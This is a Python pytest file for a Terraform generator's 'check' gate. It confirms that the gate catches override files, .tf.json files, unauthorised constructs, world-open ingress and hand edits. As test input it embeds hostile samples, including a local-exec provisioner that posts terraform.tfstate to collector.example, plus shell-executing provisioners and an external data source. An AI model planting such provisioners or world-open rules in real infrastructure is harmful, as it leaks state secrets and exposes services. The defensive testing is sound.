"""The gate reads what Terraform reads (issue 22, class 6), through `tfgen check ENV --no-checkov`
on a copy of the committed out/prod.

Terraform's "Files and Directories": a root is every `.tf` and `.tf.json` file of its folder;
"Override Files": `override.tf`, `override.tf.json`, `*_override.tf` and `*_override.tf.json`
are merged over the others, attribute by attribute, in lexicographical order. Before, `check`
read `*.tf` only, as plain files, and passed each case below: a world-open rule in `x.tf.json`
or an override file, a module call, `count = 0` on every endpoint alarm, `terraform_data` with
`local-exec`, `data "external"`, and any file tfgen did not write (render refuses them; check,
the pre-commit hook's `check --all` and CI's check did not).
"""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from generator.cli import cli
from generator.read.inventory import from_hcl
from tests.conftest import ENVIRONMENTS, EXAMPLE_ENVS, OUT, tf
from tests.policies.mutants import WORLD_OPEN_JSON

MANIFEST = ".tfgen-manifest.json"


@pytest.fixture
def out_env(tmp_path: Path) -> Path:
    """A copy of out/prod as render wrote it, its manifest included."""
    return Path(shutil.copytree(OUT / "prod", tmp_path / "out" / "prod"))


def check(out_env: Path, *args: str):
    """`tfgen check prod --no-checkov --format json`: (exit code, the violations as reported)."""
    result = CliRunner().invoke(cli, ["--config-dir", str(ENVIRONMENTS), "--out-dir", str(out_env.parent), "check",
                                      out_env.name, "--no-checkov", "--format", "json", *args])
    assert result.exit_code in (0, 1), result.output
    fields = ("rule", "address", "file", "line", "message")
    return result.exit_code, [{key: v[key] for key in fields} for v in json.loads(result.output)["violations"]]


def line_of(path: Path, text: str) -> int:
    """The line (from 1) where text first stands in the file."""
    content = path.read_text()
    return content.count("\n", 0, content.index(text)) + 1


def forge_manifest(out_env: Path) -> None:
    """The manifest made to match the tree (what a hand edit committed with its hashes looks like):
    the rules on the files' contents must catch it without the hash check."""
    manifest = json.loads((out_env / MANIFEST).read_text())
    manifest["files"] = {path: hashlib.sha256((out_env / path).read_bytes()).hexdigest()
                         for path in manifest["files"] if (out_env / path).is_file()}
    (out_env / MANIFEST).write_text(json.dumps(manifest))


def append(path: Path, text: str) -> int:
    """text added at the end of the file: the line where it starts."""
    before = path.read_text()
    path.write_text(before + "\n" + text)
    return before.count("\n") + 2


def test_the_copy_as_rendered_passes(out_env):
    assert check(out_env) == (0, [])


# --- what Terraform reads: .tf.json, override files ----------------------------------------------


def test_a_world_open_rule_in_a_tf_json_file_fails_at_its_file_and_line(out_env):
    (out_env / "platform" / "x.tf.json").write_text(WORLD_OPEN_JSON)
    code, violations = check(out_env)
    assert code == 1
    assert {"rule": "TFG-SG-003", "address": "platform:aws_vpc_security_group_ingress_rule.training_from_anywhere",
            "file": "platform/x.tf.json", "line": 4,
            "message": "ingress all traffic from 0.0.0.0/0: no ingress from the internet"} in violations
    assert [(v["file"], v["line"]) for v in violations if v["rule"] == "TFG-SRC-001"] == [("platform/x.tf.json", None)]


INFERENCE_PORT = "aws_vpc_security_group_ingress_rule.inference_container_from_vpc"
OVERRIDES = {
    "override.tf.json": '{"resource": {"aws_vpc_security_group_ingress_rule": {"inference_container_from_vpc": '
                        '{"cidr_ipv4": "0.0.0.0/0"}}}}\n',
    "override.tf": 'resource "aws_vpc_security_group_ingress_rule" "inference_container_from_vpc" {\n'
                   '  cidr_ipv4 = "0.0.0.0/0"\n}\n',
    "security_groups_override.tf": 'resource "aws_vpc_security_group_ingress_rule" "inference_container_from_vpc" {\n'
                                   '  cidr_ipv4 = "0.0.0.0/0"\n}\n',
    "z_override.tf.json": '{"resource": {"aws_vpc_security_group_ingress_rule": {"inference_container_from_vpc": '
                          '[{"cidr_ipv4": "0.0.0.0/0"}]}}}\n',
}


@pytest.mark.parametrize("name", OVERRIDES)
def test_an_override_file_is_merged_over_the_rule_it_names_and_fails(out_env, name):
    """The merged rule is the one Terraform applies: 8080 on inference from the world, declared
    where the original is (Terraform keeps the original block's place), and the file is refused."""
    (out_env / "platform" / name).write_text(OVERRIDES[name])
    code, violations = check(out_env)
    assert code == 1
    declared = ("platform/security_groups.tf",
                line_of(out_env / "platform/security_groups.tf", f'"{INFERENCE_PORT.split(".")[1]}" {{'))
    found = {(v["rule"], v["address"], v["file"], v["line"]) for v in violations}
    assert ("TFG-SG-003", f"platform:{INFERENCE_PORT}", *declared) in found
    assert ("TFG-SG-002", f"platform:{INFERENCE_PORT}", *declared) in found
    assert ("TFG-SRC-001", "platform", f"platform/{name}", None) in found
    assert "an override file" in next(v["message"] for v in violations if v["rule"] == "TFG-SRC-001")
    assert not [v for v in violations if "attached to no group" in v["message"]]  # one rule, merged: not two


def test_an_override_file_listed_in_the_manifest_is_still_refused(out_env):
    """render never writes an override file, so a manifest that lists one is not tfgen's word."""
    (out_env / "platform" / "override.tf").write_text(OVERRIDES["override.tf"])
    manifest = json.loads((out_env / MANIFEST).read_text())
    manifest["files"]["platform/override.tf"] = hashlib.sha256(OVERRIDES["override.tf"].encode()).hexdigest()
    (out_env / MANIFEST).write_text(json.dumps(manifest))
    code, violations = check(out_env)
    assert code == 1
    assert ("TFG-SRC-001", "platform/override.tf") in {(v["rule"], v["file"]) for v in violations}


def test_the_reader_takes_a_root_as_terraform_does(tmp_path, tf_state_dir):
    """terraform itself is the reference: the values it plans for each resource are the reader's,
    with .tf.json files read, override files merged in lexicographical order, and hidden files
    and editors' backups left out."""
    root = tmp_path / "env" / "platform"
    root.mkdir(parents=True)
    files = {
        "main.tf": 'resource "terraform_data" "a" {\n  input            = "main.tf"\n'
                   '  triggers_replace = "main.tf"\n}\n',
        "b.tf.json": '{"resource": {"terraform_data": {"b": {"input": "b.tf.json"}}}}\n',
        "override.tf": 'resource "terraform_data" "a" {\n  input = "override.tf"\n}\n',
        "z_override.tf.json": '{"resource": {"terraform_data": {"a": {"triggers_replace": "z_override.tf.json"}, '
                              '"b": {"input": "z_override.tf.json"}}}}\n',
        ".hidden.tf": 'resource "terraform_data" "hidden" {\n  input = "hidden"\n}\n',
        "main.tf~": 'resource "terraform_data" "backup" {\n  input = "backup"\n}\n',
    }
    for name, text in files.items():
        (root / name).write_text(text)
    tf(["init", "-input=false", "-no-color"], cwd=root, state_dir=tf_state_dir)
    tf(["plan", "-input=false", "-no-color", "-out=tfplan"], cwd=root, state_dir=tf_state_dir)
    shown = json.loads(tf(["show", "-json", "tfplan"], cwd=root, state_dir=tf_state_dir).stdout)
    planned = {r["name"]: (r["values"]["input"], r["values"]["triggers_replace"])
               for r in shown["planned_values"]["root_module"]["resources"]}
    assert planned == {"a": ("override.tf", "z_override.tf.json"), "b": ("z_override.tf.json", None)}
    read = {r.name: (r.values.get("input"), r.values.get("triggers_replace")) for r in from_hcl(root.parent).resources}
    assert read == planned


# --- what tfgen never renders, refused even with a manifest made to match ----------------------

CONSTRUCTS = {
    "a module call": ("teams/rc/endpoints.tf",
                      'module "sg" {\n  source = "terraform-aws-modules/security-group/aws"\n}\n',
                      "teams/rc:module.sg", 'module "sg"', "a module call (source = terraform-aws-modules"),
    "terraform_data with local-exec": (
        "platform/alarms.tf", 'resource "terraform_data" "hook" {\n  provisioner "local-exec" {\n'
                              '    command = "curl -d @terraform.tfstate https://collector.example"\n  }\n}\n',
        "platform:terraform_data.hook", 'provisioner "local-exec"', "provisioner local-exec: runs commands"),
    "null_resource with remote-exec": (
        "platform/logs.tf", 'resource "null_resource" "hook" {\n  provisioner "remote-exec" {\n'
                            '    inline = ["id"]\n  }\n}\n',
        "platform:null_resource.hook", 'provisioner "remote-exec"', "provisioner remote-exec"),
    'data "external"': ("teams/algo/iam.tf", 'data "external" "who" {\n  program = ["sh", "-c", "id"]\n}\n',
                        "teams/algo:data.external.who", 'data "external"', 'data "external" runs a program'),
    "a provisioner in a removed block": (
        "teams/rc/model_registry.tf", 'removed {\n  from = aws_s3_bucket.old\n\n  provisioner "local-exec" {\n'
                                      '    when    = destroy\n    command = "id"\n  }\n}\n',
        "teams/rc:removed aws_s3_bucket.old", 'provisioner "local-exec"', "provisioner local-exec"),
    "a moved block": ("teams/rc/ecr.tf", 'moved {\n  from = aws_ecr_repository.old\n  to   = aws_ecr_repository.new\n}\n',
                      "teams/rc:moved aws_ecr_repository.old", "moved {", "a moved block: tfgen renders none"),
    "a check block": ("platform/logs.tf", 'check "reachable" {\n  assert {\n    condition     = true\n'
                                          '    error_message = "x"\n  }\n}\n',
                      "platform:check.reachable", 'check "reachable"', "a check block: tfgen renders none"),
    "for_each on a repository": (
        "teams/algo/ecr.tf", None, None, "for_each", "for_each = "),
}


@pytest.mark.parametrize("case", CONSTRUCTS)
def test_what_tfgen_never_renders_fails_at_its_line_with_or_without_the_manifest_matching(out_env, case):
    file, text, address, anchor, message = CONSTRUCTS[case]
    path = out_env / file
    if text is None:  # for_each written into the first repository of the file
        header = next(line for line in path.read_text().splitlines()
                      if line.startswith('resource "aws_ecr_repository"'))
        path.write_text(path.read_text().replace(header, header + '\n  for_each = toset(["a", "b"])', 1))
        address = "teams/algo:aws_ecr_repository." + header.split('"')[3]
    else:
        append(path, text)
    forge_manifest(out_env)
    code, violations = check(out_env)
    assert code == 1
    assert [(v["rule"], v["address"], v["file"], v["line"]) for v in violations] == [
        ("TFG-SRC-002", address, file, line_of(path, anchor))]
    assert message in violations[0]["message"]


def test_count_zero_on_every_endpoint_alarm_fails_on_each(out_env):
    """The issue's case: every alarm still seen by TFG-MON-001, none of them created."""
    expected = set()
    for team in ("algo", "rc"):
        path = out_env / "teams" / team / "endpoints.tf"
        lines = path.read_text().split("\n")
        for number, line in reversed(list(enumerate(lines))):
            if line.startswith('resource "aws_cloudwatch_metric_alarm"'):
                lines.insert(number + 1, "  count = 0")
        path.write_text("\n".join(lines))
        for number, line in enumerate(path.read_text().split("\n")):
            if line == "  count = 0":
                name = lines[number - 1].split('"')[3]
                expected.add(("TFG-SRC-002", f"teams/{team}:aws_cloudwatch_metric_alarm.{name}",
                              f"teams/{team}/endpoints.tf", number + 1))
    assert len(expected) == 5  # fraud-scoring's three alarms, recommendations' two
    code, violations = check(out_env)
    assert code == 1
    assert {(v["rule"], v["address"], v["file"], v["line"]) for v in violations if v["rule"] == "TFG-SRC-002"} \
        == expected
    assert all(v["message"].startswith("count = 0: ") for v in violations if v["rule"] == "TFG-SRC-002")
    edited = {v["file"] for v in violations if v["rule"] == "TFG-SRC-001"}
    assert edited == {"teams/algo/endpoints.tf", "teams/rc/endpoints.tf"}


# --- any file tfgen did not write, and files changed since --------------------------------------

@pytest.mark.parametrize(("path", "text", "says"), [
    ("platform/extra.tf", 'output "x" {\n  value = 1\n}\n', "not written by tfgen (the manifest does not list it)"),
    ("teams/newteam/main.tf", 'output "x" {\n  value = 1\n}\n', "not written by tfgen"),
    ("main.tf", 'output "x" {\n  value = 1\n}\n', "tfgen never renders a file of this name or in this folder"),
    ("platform/modules/sg/main.tf", 'output "x" {\n  value = 1\n}\n', "tfgen never renders a file"),
    ("platform/Extra.tf", 'output "x" {\n  value = 1\n}\n', "tfgen never renders a file"),
    ("teams/rc/terraform.tfvars", "x = 1\n", "variable values terraform loads unasked"),
    ("platform/extra.auto.tfvars.json", '{"x": 1}\n', "variable values terraform loads unasked"),
], ids=lambda value: value if "/" in value or value.endswith(".tf") else None)
def test_a_file_tfgen_did_not_write_fails_naming_it(out_env, path, text, says):
    (out_env / path).parent.mkdir(parents=True, exist_ok=True)
    (out_env / path).write_text(text)
    code, violations = check(out_env)
    assert code == 1
    assert [(v["rule"], v["file"]) for v in violations] == [("TFG-SRC-001", path)]
    assert says in violations[0]["message"]


def test_a_hand_edited_file_fails_naming_it(out_env):
    """render refuses to overwrite it without --force; check refuses to pass it: the rules judged
    the design, and the file is no longer the design."""
    path = out_env / "platform" / "providers.tf"
    path.write_text(path.read_text() + "# reviewed\n")
    code, violations = check(out_env)
    assert code == 1
    assert [(v["rule"], v["address"], v["file"]) for v in violations] == [("TFG-SRC-001", "platform",
                                                                           "platform/providers.tf")]
    assert "edited since tfgen rendered it" in violations[0]["message"]


def test_a_file_the_manifest_lists_that_is_gone_fails(out_env):
    """Without backend.tf the team's state would go to a local file: nothing else notices."""
    (out_env / "teams" / "rc" / "backend.tf").unlink()
    code, violations = check(out_env)
    assert code == 1
    assert [(v["rule"], v["file"]) for v in violations] == [("TFG-SRC-001", "teams/rc/backend.tf")]
    assert "listed in the manifest, but missing" in violations[0]["message"]


def test_links_are_refused_even_to_what_tfgen_wrote(out_env, tmp_path):
    providers = out_env / "platform" / "providers.tf"
    elsewhere = tmp_path / "providers.tf"
    shutil.copy(providers, elsewhere)
    providers.unlink()
    providers.symlink_to(elsewhere)  # the same bytes: the hash alone would pass it
    (tmp_path / "module").mkdir()
    (out_env / "teams" / "shared").symlink_to(tmp_path / "module", target_is_directory=True)
    code, violations = check(out_env)
    assert code == 1
    assert {(v["rule"], v["file"]): v["message"].split(":")[0] for v in violations} == {
        ("TFG-SRC-001", "platform/providers.tf"): "a symbolic link",
        ("TFG-SRC-001", "teams/shared"): "a symbolic link to a folder"}


@pytest.mark.parametrize(("manifest", "says"), [
    (None, ".tfgen-manifest.json is missing"),
    ("{}", ".tfgen-manifest.json is not a tfgen manifest"),
    ("not json", ".tfgen-manifest.json is not a tfgen manifest"),
])
def test_a_tree_without_its_manifest_fails(out_env, manifest, says):
    if manifest is None:
        (out_env / MANIFEST).unlink()
    else:
        (out_env / MANIFEST).write_text(manifest)
    code, violations = check(out_env)
    assert code == 1
    assert [(v["rule"], v["file"]) for v in violations] == [("TFG-SRC-001", MANIFEST)]
    assert violations[0]["message"].startswith(says)


def test_what_terraform_does_not_read_as_configuration_is_not_counted(out_env):
    """State, lock files, plans, .terraform/ (modules and providers it downloaded), and names
    Terraform ignores (hidden files, editors' backups): a root that was planned and applied passes."""
    for path, text in {
        "platform/.terraform/modules/x/main.tf": 'module "y" {\n  source = "./y"\n}\n',
        "platform/.terraform/terraform.tfstate": "{}", "platform/terraform.tfstate": "{}",
        "platform/terraform.tfstate.backup": "{}", "platform/.terraform.lock.hcl": "# lock\n",
        "platform/.terraform.tfstate.lock.info": "{}", "platform/tfplan": "plan", "platform/plan.json": "{}",
        "platform/.hidden.tf": 'module "y" {\n  source = "./y"\n}\n', "platform/providers.tf~": "x",
        "platform/#providers.tf#": "x", "security-groups.env": "X=1\n", "teams/rc/crash.log": "x",
    }.items():
        (out_env / path).parent.mkdir(parents=True, exist_ok=True)
        (out_env / path).write_text(text)
    assert check(out_env) == (0, [])


# --- the hook's check --all, CI's formats, and check --plan ----------------------------------------

def test_check_all_and_the_ci_formats_fail_on_a_file_tfgen_did_not_write(tmp_path):
    out = tmp_path / "out"
    for env in EXAMPLE_ENVS:
        shutil.copytree(OUT / env, out / env)
    (out / "staging" / "platform" / "x.tf.json").write_text(WORLD_OPEN_JSON)

    def run(*args: str):
        return CliRunner().invoke(cli, ["--config-dir", str(ENVIRONMENTS), "--out-dir", str(out), "check", *args])

    every = run("--all", "--no-checkov")  # the pre-commit hook
    assert every.exit_code == 1
    assert ["TFG-SRC-001", "platform", f"{out.as_posix()}/staging/platform/x.tf.json"] in [
        line.split()[:3] for line in every.output.splitlines()]
    sarif = run("staging", "--no-checkov", "--format", "sarif")
    assert sarif.exit_code == 1
    uris = {(r["ruleId"], r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"])
            for r in json.loads(sarif.output)["runs"][0]["results"]}
    assert ("TFG-SRC-001", f"{out.as_posix()}/staging/platform/x.tf.json") in uris
    junit = run("staging", "--no-checkov", "--format", "junit")
    assert junit.exit_code == 1 and "TFG-SRC-001: " in junit.output and "platform/x.tf.json" in junit.output


def test_with_a_plan_every_file_is_still_read(out_env, tmp_path):
    """A plan replaces its root's resources, not the files: a foreign file, and a count in that very
    root's HCL, still fail."""
    path = out_env / "teams" / "algo" / "endpoints.tf"
    path.write_text(path.read_text().replace('resource "aws_cloudwatch_metric_alarm" "recommendations_5xx_rate" {\n',
                                             'resource "aws_cloudwatch_metric_alarm" "recommendations_5xx_rate" {\n'
                                             "  count = 0\n", 1))
    (out_env / "platform" / "x.tf.json").write_text(WORLD_OPEN_JSON)
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps({  # Terraform's JSON output format, of the team's root
        "format_version": "1.2", "terraform_version": "1.11.4",
        "planned_values": {"root_module": {"resources": []}},
        "configuration": {"provider_config": {"aws": {"name": "aws", "expressions": {
            "region": {"constant_value": "eu-west-1"}, "allowed_account_ids": {"constant_value": ["333333333333"]},
            "default_tags": [{"tags": {"constant_value": {"Company": "acme", "Environment": "prod", "Team": "algo",
                                                          "ManagedBy": "tfgen"}}}]}}},
                          "root_module": {"resources": []}}}))
    result = CliRunner().invoke(cli, ["--config-dir", str(ENVIRONMENTS), "--out-dir", str(out_env.parent), "check",
                                      "prod", "--no-checkov", "--plan", str(plan)])
    assert result.exit_code == 1
    assert "plans for teams/algo, HCL for the rest" in result.output
    rows = [line.split()[:3] for line in result.output.splitlines() if line.startswith("TFG-SRC")]
    where = f"{out_env.as_posix()}/"
    assert ["TFG-SRC-001", "platform", f"{where}platform/x.tf.json"] in rows
    assert ["TFG-SRC-002", "teams/algo/aws_cloudwatch_metric_alarm.recommendations_5xx_rate",
            f"{where}teams/algo/endpoints.tf:{line_of(path, 'count = 0')}"] in rows

